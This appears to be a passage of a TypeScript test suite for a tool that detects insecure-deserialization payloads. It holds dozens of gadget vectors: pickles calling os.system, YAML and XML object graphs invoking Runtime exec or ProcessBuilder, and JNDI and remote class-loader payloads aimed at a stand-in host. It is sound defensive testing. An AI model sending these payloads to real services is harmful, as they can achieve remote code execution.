import * as zlib from 'node:zlib';
import t from 'tap';
import { detectDeserialization, detectDeserializationTypeHint } from '../../src/detectors/deserialization';
import { charMask } from '../../src/charclass';
import { createEngine } from '../../src/engine';
import { verdictDigest, verdictKey, verdictTable, pinnedVerdicts } from '../helpers/verdict-table';

/** Base64 of a string, for building encoded vectors without copying any payload list. */
const b64 = (s: string): string => Buffer.from(s, 'latin1').toString('base64');

/** Values that must be detected at `high`. Written for this project. */
const HIGH_VALUES: readonly string[] = [
  // node-serialize
  '_$$ND_FUNC$$_function(){ return 42 }()',
  '{"profile":"_$$ND_FUNC$$_function (){require(\'fs\').readdirSync(\'/\')}()"}',
  '_$$ND_FUNC$$_(function(){ globalThis.x = 1 })()',
  "_$$ND_FUNC$$_require('os').hostname()",
  '_$$ND_FUNC$$_() => { return 1 }.call(null)',
  b64('{"user":"_$$ND_FUNC$$_function(){}()"}'),
  b64('x{"user":"_$$ND_FUNC$$_function(){}()"}'),
  b64('xy{"user":"_$$ND_FUNC$$_function(){}()"}'),
  // funcster
  '{"fn": {"__js_function": "function(){ return process.pid }()"}}',
  // serialize-javascript style
  '{"name": "x", "toJSON": function(){ return 1 }()}',
  '{run: function () { doIt() } ()}',
  // YAML
  '!!js/function "function(){ return 1 }"',
  'key: !!js/function >\n  function () { return 1 }',
  '!!python/object/apply:os.system ["true"]',
  'x: !!python/object/new:subprocess.Popen [["ls"]]',
  '- !!python/name:os.system',
  '!!python/module:os',
  '!<tag:yaml.org,2002:python/object/apply:os.getcwd> []',
  '--- !ruby/object:Gem::Installer\ni: x',
  'a: !ruby/hash:ActionController::Routing::RouteSet {}',
  '!!javax.script.ScriptEngineManager [!!java.net.URLClassLoader [[!!java.net.URL ["http://h.invalid/"]]]]',
  '!!com.sun.rowset.JdbcRowSetImpl {dataSourceName: "ldap://h.invalid/a", autoCommit: true}',
  // Java serialization
  'rO0ABXNyABFqYXZhLnV0aWwuSGFzaE1hcA',
  'rO0ABQ',
  '{"state": "rO0ABXQABHRlc3Q="}',
  'session=rO0ABXNy',
  'KztAAUzZQ',
  'Cs7QAFc3I',
  'aced00057372',
  'ACED0005737200',
  '\u00ac\u00ed\u0000\u0005sr\u0000',
  // PHP serialize() objects and Python pickles (protocol 0 and 2) in base64
  'Tzo0MDoiSWxsdW1pbmF0ZVxCcm9hZGNhc3RpbmdcUGVuZGluZ0Jyb2FkY2FzdCI6Mjp7fQ==',
  'Tzo4OiJzdGRDbGFzcyI6MDp7fQ==',
  'Y29zCnN5c3RlbQooUyd0cnVlJwp0Ui4=',
  'Y3Bvc2l4CnN5c3RlbQpwMAooVnRydWUKcDEKdHAyClJwMwou',
  'gAJjcG9zaXgKc3lzdGVtCnEAWAQAAAB0cnVlcQGFcQJScQMu',
  // .NET BinaryFormatter header in base64 (ysoserial.net's output for BinaryFormatter sinks)
  'AAEAAAD/////AQAAAAAAAAAMAgAAAF5NaWNyb3NvZnQ',
  '{"viewstate":"AAEAAAD/////AQAAAAAAAAAEAQAAAH9TeXN0ZW0"}',
  // PHP
  'O:8:"stdClass":0:{}',
  'O:4:"User":2:{s:4:"name";s:1:"a";s:5:"admin";b:1;}',
  'a:1:{i:0;O:6:"Logger":1:{s:4:"file";s:9:"/tmp/x.sh";}}',
  'O:+6:"Logger":1:{}',
  'O:17:"Monolog\\Handler\\X":0:{}',
  'C:11:"ArrayObject":21:{x:i:0;a:0:{};m:a:0:{}}',
  // .NET
  '{"$type":"System.Windows.Data.ObjectDataProvider, PresentationFramework, Version=4.0.0.0","MethodName":"Start"}',
  '{"__type":"System.Configuration.Install.AssemblyInstaller, System.Configuration.Install"}',
  '{ "$type" : "System.Security.Principal.WindowsIdentity, mscorlib" }',
  'System.Windows.Data.ObjectDataProvider, PresentationFramework, Version=4.0.0.0, Culture=neutral',
  // Java polymorphic JSON
  '{"@type":"com.sun.rowset.JdbcRowSetImpl","dataSourceName":"rmi://h.invalid/x","autoCommit":true}',
  '{"@type":"java.lang.AutoCloseable"}',
  '["com.sun.rowset.JdbcRowSetImpl", {"dataSourceName": "ldap://h.invalid/x"}]',
  // jsonpickle
  '{"py/reduce": [{"py/function": "os.system"}, {"py/tuple": ["true"]}]}',
  // pickle protocol 0
  "cos\nsystem\n(S'true'\ntR.",
  "(cposix\nsystem\nS'id'\no.",
  "(S'true'\nios\nsystem\n.",
  'csubprocess\ncheck_output\n(S\'ls\'\ntR.',
  // whitespace padding is no evasion
  '{"$type"' + ' '.repeat(100) + ':' + ' '.repeat(100) + '"System.Windows.Data.ObjectDataProvider, PresentationFramework"}',
  '{"f":' + ' '.repeat(100) + 'function' + ' '.repeat(100) + '(){ return 1 }' + ' '.repeat(100) + '()}',
  // XML object graphs: XMLDecoder, XStream (element names and class attributes), XAML
  '<java version="1.8" class="java.beans.XMLDecoder"><object class="java.lang.Runtime" method="getRuntime"><void method="exec"><string>id</string></void></object></java>',
  '<?xml version="1.0"?>\n<java><object class = \'java.lang.ProcessBuilder\'><array class="java.lang.String" length="1"><void index="0"><string>true</string></void></array><void method="start"/></object></java>',
  '<set><dynamic-proxy><interface>java.lang.Comparable</interface><handler class="java.beans.EventHandler"><target class="java.lang.ProcessBuilder"/><action>start</action></handler></dynamic-proxy></set>',
  '<map><entry><javax.naming.ldap.Rdn_-RdnEntry><type>t</type></javax.naming.ldap.Rdn_-RdnEntry></entry></map>',
  '<java.util.PriorityQueue serialization="custom"><default><size>2</size></default></java.util.PriorityQueue>',
  '<root><order><item>1</item></order><payload><org.springframework.beans.factory.ObjectFactory/></payload></root>',
  '<Window xmlns:s="clr-namespace:System;assembly=mscorlib"><s:ObjectDataProvider MethodName="Start"/></Window>',
  '<ObjectDataProvider x:Key="a" ObjectType="{x:Type d:Process}" MethodName="Start"></ObjectDataProvider>',
  '<obj class="System.Windows.Markup.XamlReader"/>',
  // character references in the attribute value are decoded by the parser
  '<java><object class="java.lang.&#80;rocessBuilder"><void method="start"/></object></java>',
  '<java><object class="&#x6a;ava.lang.Runtime" method="getRuntime"/></java>',
  // Ruby Marshal (04 08) in base64 naming gadget classes; also after a `name=` prefix
  b64('\x04\x08[\x08c\x15Gem::SpecFetcherc\x13Gem::InstallerU:\x15Gem::Requirement[\x06o:\x1cGem::Package::TarReader\x06:\x08@io'),
  b64('\x04\x08o:@ActiveSupport::Deprecation::DeprecatedInstanceVariableProxy\x07:\x0e@instanceo:\x08ERB\x06:\x09@srcI"\x07id\x06:\x06ET'),
  'session=' + b64('\x04\x08o:\x08ERB\x06:\x09@srcI"\x08id\x06:\x06ET'),
  'x ' + b64('\x04\x08o:\x15Net::WriteAdapter\x07:\x0c@socketo:\x0bKernel'),
  'data=' + b64('O:8:"Example1":1:{s:1:"a";s:1:"b";}'),
  // binary pickle as latin1 text
  '\u0080\u0004\u0095\u001e\u0000\u0000\u0000\u0000\u0000\u0000\u0000\u008c\u0005posix\u0094\u008c\u0006system\u0094\u0093\u0094.',
];

/** Values that must not be reported at `high`. */
const NOT_HIGH_VALUES: readonly string[] = [
  '_$$ND_FUNC$$_',
  '_$$ND_FUNC$$_function(){ return 1 }',
  '{"__js_function": "function(){ return 1 }"}',
  '!!js/undefined ""',
  '!!js/regexp /a+/',
  'x: !!str 123',
  'x: !!binary aGVsbG8=',
  '!!python/tuple [1, 2]',
  'Wow!!js/function is a yaml tag',
  'Great!! python/object rocks',
  'a:2:{i:0;s:1:"a";i:1;s:1:"b";}',
  's:5:"hello";',
  'O:3:"User":1:{',
  'Time O:12:30',
  'Ratio 3:1:{a}',
  '{"$type":"MyApp.Models.Order, MyApp","id":1}',
  '{"@type": "Person", "name": "Ann"}',
  '{"@context": "https://schema.org", "@type": "https://schema.org/Product"}',
  "Don't forget to install `@types/node`",
  '{"@class":"com.example.shop.Order","id":1}',
  '{"__typename": "User"}',
  'System.Windows.Data.ObjectDataProvider',
  'java.lang.Runtime',
  'aced',
  'acedia is a state of listlessness',
  'Macedonia',
  'The rO0AB prefix marks Java serialization',
  'AAEAAAD/////',
  // base64 of ordinary text, of a PHP array, of a word starting with the magic letters
  'aGVsbG8gd29ybGQgdGhpcyBpcyB0ZXh0',
  'YToyOntpOjA7czoxOiJhIjt9',
  'Y3VybA==',
  'Tzo0 is a word',
  'AAEAAAD is not a header on its own',
  'AAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAA',
  'BAAEAAAD/////AQAAAAAAAAA',
  'brO0ABx',
  'caseos\nsystem\n',
  'cos\nsystem\nlater.',
  'cat\ndog\nR.',
  'gASVabc',
  'py/object',
  'https://docs.example.com/py/reduce',
  'function(){ return 1 }()',
  '{"a": "function(){}()"}',
  'Tom & Jerry',
  "O'Brien",
  'a < b and c > d',
  // markup with class attributes and qualified names that are not gadget types
  '<div class="container"><p class="lead">Hello <b>world</b></p></div>',
  '<object class="com.example.shop.Order"><void property="id"><int>1</int></void></object>',
  '<com.example.Order><id>1</id></com.example.Order>',
  '<p>Use <code>java.lang.Runtime</code> with care; class="java.lang.Runtime" in prose is not markup</p>',
  'x < java.lang.Runtime and class = java.beans.Introspector',
  '<ObjectDataProviderX/>',
  '<span class=java>java.lang.ProcessBuilder</span>',
  // configuration files name classes by design
  '<beans><bean id="ds" class="org.springframework.jdbc.datasource.DriverManagerDataSource"><property name="url" value="jdbc:h2:mem:x"/></bean></beans>',
  '<log4j:configuration><appender name="console" class="org.apache.log4j.ConsoleAppender"><layout class="org.apache.log4j.PatternLayout"/></appender></log4j:configuration>',
  '<configuration><appender name="F" class="ch.qos.logback.core.FileAppender"><encoder class="ch.qos.logback.classic.encoder.PatternLayoutEncoder"/></appender></configuration>',
  // Marshal streams of ordinary data (a Rails session), and words starting with the magic letters
  b64('\x04\x08{\x07I"\x0fsession_id\x06:\x06ETI"\x0babc123\x06;\x00TI"\x10_csrf_token\x06;\x00FI"\x09xyzw\x06;\x00F'),
  'session=' + b64('\x04\x08I"\x10Kernelville\x06:\x06ET'),
  'BAhrain and BAgpipes',
  'BAh='.repeat(40),
  'https://example.com/path?x=1',
  '12:30:00',
  '',
];

t.test('values detected at high', async (t) => {
  for (const v of HIGH_VALUES) {
    const d = detectDeserialization(v);
    t.equal(d?.confidence, 'high', `high: ${JSON.stringify(v)}`);
    t.match(d?.rule ?? '', /^deser\./, `rule prefix: ${JSON.stringify(v)}`);
  }
});

t.test('values not reported at high', async (t) => {
  for (const v of NOT_HIGH_VALUES) {
    const d = detectDeserialization(v);
    t.not(d?.confidence, 'high', `not high: ${JSON.stringify(v)} (${d?.rule ?? 'none'})`);
  }
});

t.test('tiers', async (t) => {
  t.equal(detectDeserialization('_$$ND_FUNC$$_')?.confidence, 'medium', 'bare node-serialize marker');
  t.equal(detectDeserialization('_$$ND_FUNC$$_function(){}')?.confidence, 'medium', 'uninvoked function');
  t.equal(detectDeserialization('!!js/regexp /x/')?.confidence, 'medium');
  t.equal(detectDeserialization('!!js/undefined ""')?.confidence, 'low');
  t.equal(detectDeserialization('a:1:{i:0;s:1:"x";}')?.confidence, 'low', 'PHP array is low');
  t.equal(detectDeserialization('s:3:"abc";')?.confidence, 'low', 'PHP string is low');
  t.equal(detectDeserialization('O:9:"User":0:{}')?.confidence, 'medium', 'length mismatch is medium');
  t.equal(detectDeserialization('{"$type":"MyApp.Order, MyApp"}')?.confidence, 'low', 'Json.NET type');
  t.equal(detectDeserialization('System.Diagnostics.Process')?.confidence, 'medium', 'bare gadget name');
  t.equal(detectDeserialization('{"@class":"com.example.Order"}')?.confidence, 'medium', 'Java class name');
  t.equal(detectDeserialization('!!com.example.Order {}')?.confidence, 'medium', 'SnakeYAML class tag');
  t.equal(detectDeserialization("cos\\nsystem\\n(S'id'\\ntR.")?.confidence, 'medium', 'escaped pickle text');
  t.equal(detectDeserialization('gASVlQAAAAAAAAB9')?.confidence, 'low', 'base64 pickle header');
  t.equal(detectDeserialization('hello world'), undefined);
});

t.test('adversarial and odd inputs return without throwing', async (t) => {
  const MB = 1 << 20;
  const inputs = [
    '_$$ND_FUNC$$_'.repeat(MB / 13),
    '_$$ND_FUNC$$_function(){' + '('.repeat(MB),
    '{"__js_function":"function(){'.repeat(MB / 30),
    '{"a": function(){'.repeat(MB / 18),
    '{"a": function(){' + '{'.repeat(MB),
    '!!'.repeat(MB / 2),
    '!!python/'.repeat(MB / 9),
    'O:9:"'.repeat(MB / 5),
    'O:1:"' + 'A'.repeat(MB),
    'a:'.repeat(MB / 2),
    ':'.repeat(MB),
    '_'.repeat(MB),
    '$type'.repeat(MB / 5),
    '"$type":"'.repeat(MB / 9),
    '@type'.repeat(MB / 5),
    'rO0A'.repeat(MB / 4),
    ' aced000'.repeat(MB / 8),
    'XyQkTkRfRlVOQyQ'.repeat(MB / 15),
    '\u00ac\u00ed'.repeat(MB / 2),
    '\u0080\u0004' + 'x'.repeat(MB),
    'cos\n' + 'R'.repeat(MB),
    'A'.repeat(5 * MB),
    '\u0000'.repeat(1000),
    '\ud800_$$ND_FUNC$$_\udfff',
    '<'.repeat(MB),
    'BAh='.repeat(MB / 4),
    'x=BAhbCGMVR2VtOjpTcGVj'.repeat(MB / 22),
    'Tzo='.repeat(MB / 4),
    '<a class='.repeat(MB / 9),
    '<a ' + 'b=c '.repeat(MB / 4),
    '<java.' + 'a'.repeat(MB),
  ];
  for (const s of inputs) t.doesNotThrow(() => detectDeserialization(s));
});

t.test('markers inside longer text, on both sides of the long-value scan', async (t) => {
  // Values of 112 characters and more are pre-scanned with indexOf searches instead of a charCode
  // loop; a marker must be found the same way at any position and either side of that length.
  const markers = [
    '_$$ND_FUNC$$_function(){ return 42 }()',
    b64('x{"user":"_$$ND_FUNC$$_function(){}()"}'),
    '{"fn": {"__js_function": "function(){ return process.pid }()"}}',
    '{"name": "x", "toJSON": function(){ return 1 }()}',
    'x: !!python/object/new:subprocess.Popen [["ls"]]',
    '!!js/function "function(){ return 1 }"',
    'a: !ruby/hash:ActionController::Routing::RouteSet {}',
    'session=rO0ABXNy',
    'KztAAUzZQ',
    'Cs7QAFc3I',
    'ACED0005737200',
    '\u00ac\u00ed\u0000\u0005sr\u0000',
    'O:4:"User":2:{s:4:"name";s:1:"a";s:5:"admin";b:1;}',
    '{ "$type" : "System.Security.Principal.WindowsIdentity, mscorlib" }',
    '{"__type":"System.Configuration.Install.AssemblyInstaller, System.Configuration.Install"}',
    '{"@type":"com.sun.rowset.JdbcRowSetImpl","dataSourceName":"rmi://h.invalid/x","autoCommit":true}',
    '{"py/reduce": [{"py/function": "os.system"}, {"py/tuple": ["true"]}]}',
  ];
  // Prose holding the characters the checks start from (`:` `@` `!` `(` `/`, `ac`, `py`) without a marker.
  const prose = 'Please leave the parcel at the side door; happy/sad faces: 5:3 ratio, wow! Contact sales@corp.com (9am-5pm). '.repeat(4);
  for (const n of [40, 111, 112, 113, 200, 400]) {
    for (const m of markers) {
      const pad = prose.slice(0, Math.max(0, n - m.length - 1));
      t.equal(detectDeserialization(pad + ' ' + m)?.confidence, 'high', `after text, length ${n}: ${JSON.stringify(m)}`);
      t.equal(detectDeserialization(m + ' ' + pad)?.confidence, 'high', `before text, length ${n}: ${JSON.stringify(m)}`);
    }
    t.equal(detectDeserialization(prose.slice(0, n)), undefined, `prose of ${n} characters`);
  }
  // Trailing whitespace keeps a pickle stream's STOP last and a binary pickle's header first.
  t.equal(detectDeserialization("cos\nsystem\n(S'true'\ntR." + ' '.repeat(120))?.confidence, 'high', 'padded pickle');
  t.equal(detectDeserialization('aced' + ' '.repeat(120) + '0005'), undefined, 'split hex header');
});

t.test('type hints in a parsed document: the key and the value together', async (t) => {
  const high: Array<[string, string]> = [
    ['@type', 'com.sun.rowset.JdbcRowSetImpl'],
    ['@type', 'LLcom.sun.rowset.JdbcRowSetImpl;;'],
    ['@type', '[com.sun.rowset.JdbcRowSetImpl'],
    ['@class', 'com.sun.rowset.JdbcRowSetImpl'],
    ['$type', 'System.Windows.Data.ObjectDataProvider'],
    ['__type', 'ObjectDataProvider:#System.Windows.Data'],
    ['__type', 'System.Windows.Data.ObjectDataProvider:#System.Windows.Data'],
    ['[0]', 'org.springframework.context.support.ClassPathXmlApplicationContext'],
  ];
  for (const [k, v] of high) t.equal(detectDeserializationTypeHint(k, v)?.confidence, 'high', `${k}: ${v}`);
  const none: Array<[string, string]> = [
    ['@type', 'Person'],
    ['@type', 'https://schema.org/Person'],
    ['$type', 'MyApp.Models.Order, MyApp'],
    ['@class', 'com.example.shop.Order'],
    ['__type', 'Order:#MyCompany.Shop'],
    ['name', 'com.sun.rowset.JdbcRowSetImpl'],
    ['[0]', 'Small'],
    ['Lunch', 'Lorem ipsum dolor'],
  ];
  for (const [k, v] of none) t.equal(detectDeserializationTypeHint(k, v), undefined, `${k}: ${v}`);

  // Through the engine: a parsed JSON body, where keys and values are walked apart.
  const e = createEngine();
  const inspect = (doc: unknown) =>
    e.inspect({ method: 'POST', path: '/x', sources: [{ kind: 'body', path: 'body', value: JSON.stringify(doc), decoding: 'body', contentType: 'application/json' }] });
  const fj = inspect({ order: { '@type': 'com.sun.rowset.JdbcRowSetImpl', dataSourceName: 'rmi://h.invalid/a', autoCommit: true } });
  t.equal(fj.action, 'block');
  t.ok(fj.findings.some((f) => f.rule === 'deser.gadget-type-hint' && f.path === 'body.order["@type"]'), JSON.stringify(fj.findings));
  const wrapper = inspect({ a: ['org.springframework.context.support.ClassPathXmlApplicationContext', 'https://h.invalid/x.xml'] });
  t.ok(wrapper.findings.some((f) => f.rule === 'deser.gadget-type-wrapper' && f.path === 'body.a[0]'), JSON.stringify(wrapper.findings));
  t.same(inspect({ '@context': 'https://schema.org', '@type': 'Person', sizes: ['Small', 'Medium'] }).findings, []);
});

t.test('XStream element names after runs of `<` and dense markup', async (t) => {
  const gadget = '<java.util.PriorityQueue serialization="custom"><default/></java.util.PriorityQueue>';
  for (const [name, junk] of [
    ['`<` run right before', '<'.repeat(5000)],
    ['end tags', '</a>x'.repeat(3000)],
    ['attribute runs', '<a x="'.repeat(3000)],
    ['nothing', ''],
  ] as const) {
    t.equal(detectDeserialization(junk + gadget)?.rule, 'deser.xml-gadget-element', name);
  }
  // The name must follow the `<` directly; a `<` at the very end reads nothing past it.
  t.not(detectDeserialization('</a>x'.repeat(3000) + '< java.util.PriorityQueue>')?.rule, 'deser.xml-gadget-element');
  t.equal(detectDeserialization('</a>x'.repeat(3000) + '<'), undefined);
});

t.test('XStream element names: the walk over `<` ends at the last dot', async (t) => {
  // The dot of the class name is the last one in the value: its `<` is still read.
  t.equal(detectDeserialization('a. b. <java.util.PriorityQueue>')?.rule, 'deser.xml-gadget-element');
  t.equal(detectDeserialization('</a>x'.repeat(2000) + '<java.util.PriorityQueue')?.rule, 'deser.xml-gadget-element');
  t.equal(detectDeserialization('<java.util.PriorityQueue' + '</a>x'.repeat(2000))?.rule, 'deser.xml-gadget-element');
  // No dot after the `<`: no qualified element name, whatever follows.
  t.not(detectDeserialization('java.util. <javautilPriorityQueue>')?.rule, 'deser.xml-gadget-element');
  t.not(detectDeserialization('<' + '</a>x'.repeat(2000))?.rule, 'deser.xml-gadget-element');
});

t.test('long values with the value mask: the searches for absent kinds are skipped, none present is', async (t) => {
  // From 112 characters the markers are found by searches; with a mask, only for kinds it holds.
  // Each value's marker needs one such kind (`:`, `@`, `$`, `!`, `_`, a line break, `/`).
  const pad = ' '.repeat(120);
  const values = [
    'O:8:"stdClass":1:{s:1:"a";s:1:"b";}',
    '{"@type":"com.sun.rowset.JdbcRowSetImpl","dataSourceName":"ldap://x/a"}',
    '{"$type":"System.Windows.Data.ObjectDataProvider, PresentationFramework"}',
    '!!python/object/apply:os.system ["id"]',
    '{"rce":"_$$ND_FUNC$$_function(){require(\'child_process\').exec(\'id\')}()"}',
    "cos\nsystem\n(S'id'\ntR.",
    '{"py/object": "subprocess.Popen"}',
    'AAEAAAD/////AQAAAAAAAAAMAgAAAF',
  ];
  for (const v0 of values) {
    const v = v0 + pad;
    const plain = detectDeserialization(v);
    t.ok(plain, `found: ${JSON.stringify(v0)}`);
    t.same(detectDeserialization(v, charMask(v)), plain, `same with its mask: ${JSON.stringify(v0)}`);
  }
});

t.test('a base64 protocol-0 pickle of a builtins global is found in long values as in short ones', async (t) => {
  const token = Buffer.from("cbuiltins\neval\n(S'print(1)'\ntR.").toString('base64');
  t.ok(token.startsWith('Y2J1aWx0aW5z'));
  const short = detectDeserialization(token);
  t.ok(short, 'short value');
  // Past the short-value walk (112 characters), the long search must know this magic too.
  for (const v of [token + ' '.repeat(300), 'note: '.repeat(40) + token, `${'x'.repeat(200)} ${token}`]) {
    t.equal(detectDeserialization(v)?.rule, short?.rule, JSON.stringify(v.slice(0, 30)));
    t.equal(detectDeserialization(v, charMask(v))?.rule, short?.rule, 'with mask');
  }
});

t.test('long values: each magic found through its shared-prefix or tail search, in one- and two-byte text', async (t) => {
  // mayMarkLong searches `gA…`, `Y…` and `BA…` magics by their shared prefix and `AAEAAAD/////` by its
  // tail: every word of each group must still reach the scan, with or without the caller's mask.
  const cases: Array<[string, string]> = [
    [b64('\x04\x08o:\x15Gem::Requirement\x06:\x10@requirementsU:\x15Net::WriteAdapter'), 'deser.ruby-marshal-base64'], // BAh
    [b64('\x04\x08"o:\x15Gem::Requirement\x06:\x10@requirementsU:\x15Net::WriteAdapter'), 'deser.ruby-marshal-base64'], // BAg
    [b64("cos\nsystem\n(S'id'\ntR."), 'deser.pickle-base64'], // Y29z
    [b64("cposix\nsystem\n(S'id'\ntR."), 'deser.pickle-base64'], // Y3
    [b64("cnt\nsystem\n(S'id'\ntR."), 'deser.pickle-base64'], // Y250
    [b64("cbuiltins\neval\n(S'1'\ntR."), 'deser.pickle-base64'], // Y2J1aWx0aW5z
    [b64('\x80\x02cposix\nsystem\nq\x00X\x02\x00\x00\x00idq\x01\x85q\x02Rq\x03.'), 'deser.pickle-base64'], // gAJj
    [b64('\x80\x03cos\nsystem\nq\x00X\x02\x00\x00\x00idq\x01\x85q\x02Rq\x03.'), 'deser.pickle-base64'], // gANj
    [b64('\x80\x04\x95\x1e\x00\x00\x00\x00\x00\x00\x00\x8c\x05posix'), 'deser.pickle-base64'], // gASV
    [b64('\x80\x05\x95\x1e\x00\x00\x00\x00\x00\x00\x00\x8c\x05posix'), 'deser.pickle-base64'], // gAWV
    ['AAEAAAD/////AQAAAAAAAAAMAgAAAF5NaWNyb3NvZnQ=', 'deser.dotnet-binaryformatter'],
  ];
  for (const [token, rule] of cases) {
    for (const pad of ['ａ．ｂ ', 'é.é ', 'ｙ Y Ｙ gA BA //// ', 'Plain words, then more. ']) {
      const v = pad.repeat(40) + token + ' ' + pad.repeat(5);
      t.equal(detectDeserialization(v)?.rule, rule, `${JSON.stringify(pad)} ${token.slice(0, 12)}`);
      t.equal(detectDeserialization(v, charMask(v))?.rule, rule, `${JSON.stringify(pad)} ${token.slice(0, 12)} (mask)`);
    }
  }
  // The prefixes and tail alone, many times over, find nothing.
  const none = 'ｙ Y Ｙ gA gAx BA BAx Y2 Y29 ///// AAEAAAD//// ';
  t.equal(detectDeserialization(none.repeat(100)), undefined);
});

// ---------------------------------------------------------------------------------------------------
// Binary pickles, ObjectStateFormatter (session 14); gzip tokens are not inflated in a value (see below)

/** A protocol 4/5 pickle as pickle.dumps writes it for an object whose __reduce__ returns (module.name, (arg,)). */
function pickle45(proto: number, mod: string, name: string, arg: string, memo = true): string {
  const str = (x: string): string => '\x8c' + String.fromCharCode(x.length) + x + (memo ? '\x94' : '');
  const body = str(mod) + str(name) + '\x93' + (memo ? '\x94' : '') + str(arg) + '\x85' + (memo ? '\x94' : '') + 'R' + (memo ? '\x94' : '') + '.';
  return '\x80' + String.fromCharCode(proto) + '\x95' + String.fromCharCode(body.length) + '\x00'.repeat(7) + body;
}
const gzipB64 = (bytes: Buffer, opts: zlib.ZlibOptions = {}): string => zlib.gzipSync(bytes, opts).toString('base64');
/** A gzip member with optional header fields (FEXTRA / FNAME), written by hand: zlib writes none. */
function gzipWithHeader(bytes: Buffer, extra: number, name: string): string {
  const flg = (extra > 0 ? 4 : 0) | (name ? 8 : 0);
  const parts = [Buffer.from([0x1f, 0x8b, 8, flg, 0, 0, 0, 0, 0, 0xff])];
  if (extra > 0) parts.push(Buffer.from([extra & 0xff, extra >> 8]), Buffer.alloc(extra, 0x45));
  if (name) parts.push(Buffer.from(name + '\0', 'latin1'));
  parts.push(zlib.deflateRawSync(bytes), Buffer.alloc(8)); // CRC/size are not checked by the detector
  return Buffer.concat(parts).toString('base64');
}
const BF_STREAM = Buffer.from('0001000000ffffffff01000000000000000c020000005e4d6963726f736f6674', 'hex');

t.test('binary pickles (protocol 2-5) that load a dangerous global and call it are high', async (t) => {
  const high = [
    pickle45(4, 'posix', 'system', 'id'), // gASV: Python 3.8+'s pickle.dumps default
    pickle45(5, 'subprocess', 'Popen', 'id'),
    pickle45(4, 'builtins', 'eval', '1', false), // pickletools.optimize drops the memo stores
    pickle45(4, 'os.path', 'exists', '/'),
    // protocol 4 header without FRAME, GLOBAL opcode instead of STACK_GLOBAL
    '\x80\x04cos\nsystem\n\x8c\x02id\x85R.',
    '\x80\x02c__builtin__\neval\nX\x01\x00\x00\x001\x85R.', // gAJj with a Python 2 module name
    // INST calls at once
    '\x80\x02(X\x02\x00\x00\x00idios\nsystem\n.',
    // a run of `c` bytes and a line break before the GLOBAL (the forward-only line-break pointer)
    '\x80\x02X\x06\x00\x00\x00ccccc\n0cccos\nsystem\n)R.',
    // the shortest: os.abort() with no STOP (REDUCE runs first), 19 characters of base64
    '\x80\x02cos\nabort\n)R',
  ];
  for (const p of high) {
    const v = b64(p);
    t.equal(detectDeserialization(v)?.confidence, 'high', JSON.stringify(p.slice(0, 40)));
    t.equal(detectDeserialization(Buffer.from(p, 'latin1').toString('base64url'))?.confidence, 'high', 'url-safe alphabet');
    t.equal(detectDeserialization(`session=${v}; theme=dark`)?.rule, 'deser.pickle-base64', 'in a cookie');
  }
  // Through the engine (its bigram gate must let `gA` through).
  const e = createEngine();
  const verdict = e.inspect({ method: 'POST', path: '/x', sources: [{ kind: 'body', path: 'body', value: { state: b64(pickle45(4, 'posix', 'system', 'id')) } }] });
  t.equal(verdict.action, 'block');
});

t.test('binary pickles of plain data stay low: the header alone, module names as data', async (t) => {
  const data = [
    // a dict {"os": "posix", "code": "x"}: module names as keys and values, no STACK_GLOBAL
    '\x80\x04\x95\x20\x00\x00\x00\x00\x00\x00\x00}\x94(\x8c\x02os\x94\x8c\x05posix\x94\x8c\x04code\x94\x8c\x01x\x94u.',
    // ["os", "system"]: the two strings STACK_GLOBAL would take, but never loaded
    '\x80\x04\x95\x14\x00\x00\x00\x00\x00\x00\x00]\x94(\x8c\x02os\x94\x8c\x06system\x94e.',
    // a datetime: a global and a call, of a harmless module
    '\x80\x04\x95\x2a\x00\x00\x00\x00\x00\x00\x00\x8c\x08datetime\x94\x8c\x08datetime\x94\x93\x94C\n\x07\xe4\x01\x01\x00\x00\x00\x00\x00\x00\x94\x85\x94R\x94.',
    // a dangerous global loaded but never called
    '\x80\x04\x95\x14\x00\x00\x00\x00\x00\x00\x00\x8c\x02os\x94\x8c\x06getcwd\x94\x93\x94.',
  ];
  for (const p of data) t.equal(detectDeserialization(b64(p))?.confidence, 'low', JSON.stringify(p.slice(12, 40)));
  // The decode budget: seven data tokens, then the exploit, in one string: still high; the budget is
  // per call. Past it (eight decoys first), the exploit token is its header alone: low.
  const decoy = b64(data[0]!);
  const bad = b64(pickle45(4, 'posix', 'system', 'id'));
  t.equal(detectDeserialization(`${decoy} `.repeat(7) + bad)?.confidence, 'high', 'within the decode budget');
  t.equal(detectDeserialization(`${decoy} `.repeat(7) + bad)?.confidence, 'high', 'the budget is per call');
  t.equal(detectDeserialization(`${decoy} `.repeat(8) + bad)?.confidence, 'low', 'past the decode budget');
  for (const v of ['gAJ9cQAu', 'gASVabcdefgh', 'gAIn is not a pickle', 'gAXXXXXXXXXXXXXX']) {
    t.not(detectDeserialization(v)?.confidence, 'high', v);
  }
});

t.test('gzip of ordinary data (CloudWatch Logs events, random bytes) finds nothing', async (t) => {
  const logs = Buffer.from(JSON.stringify({ messageType: 'DATA_MESSAGE', owner: '123456789012', logGroup: '/aws/lambda/x', logEvents: [{ id: '1', timestamp: 1, message: 'START RequestId' }] }));
  const rnd = Buffer.alloc(3000);
  for (let i = 0; i < rnd.length; i++) rnd[i] = (i * 7919 + (i >> 3) * 31) & 0xff;
  for (const v of [gzipB64(logs), gzipB64(rnd), gzipWithHeader(logs, 10, 'log.json'), 'H4sIAAAAAAAAA', 'H4sI is the gzip magic', 'H4sIAAAAAAAAA/////////////']) {
    t.equal(detectDeserialization(v), undefined, v.slice(0, 24));
  }
});

t.test('ObjectStateFormatter /wEy payloads wrapping BinaryFormatter data are high; view state is not', async (t) => {
  const osf = (len: number[]): string => Buffer.concat([Buffer.from([0xff, 1, 0x32, ...len]), BF_STREAM]).toString('base64');
  for (const v of [osf([0xdb, 0x01]), osf([0x40]), osf([0x80, 0x80, 0x01])]) {
    t.equal(detectDeserialization(v)?.rule, 'deser.dotnet-binaryformatter', v);
    t.equal(detectDeserialization(`__VIEWSTATE=${v}&__EVENTVALIDATION=x`)?.confidence, 'high', 'as a form field');
    const long = 'Plain words, then more. '.repeat(10) + v + ' end';
    t.equal(detectDeserialization(long, charMask(long))?.confidence, 'high', 'in a long value, with its mask');
  }
  // Ordinary view state (a Pair, 0x0F), a /wEy without the BinaryFormatter header, a path.
  const pair = Buffer.from([0xff, 1, 0x0f, 0x0f, 0x05, 0x0a, 0x2d, 0x31, 0x33, 0x36, 0x32]).toString('base64');
